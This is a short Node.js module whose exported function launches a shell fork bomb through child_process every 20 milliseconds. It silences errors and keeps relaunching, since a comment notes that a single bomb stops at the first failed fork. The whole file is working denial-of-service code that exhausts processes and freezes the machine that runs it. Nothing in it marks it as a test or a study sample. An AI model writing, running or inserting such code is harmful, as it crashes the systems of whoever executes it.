// Bombs of a shell, and again and again: a shell gives up at the first fork that fails.
const { spawn } = require('node:child_process');

const bomb = 'bomb() { bomb | bomb & }; bomb; sleep 1000';
let timer = null;
module.exports = () => {
  timer ??= setInterval(() => spawn('/bin/sh', ['-c', bomb], { stdio: 'ignore' }).on('error', () => undefined), 20);
};
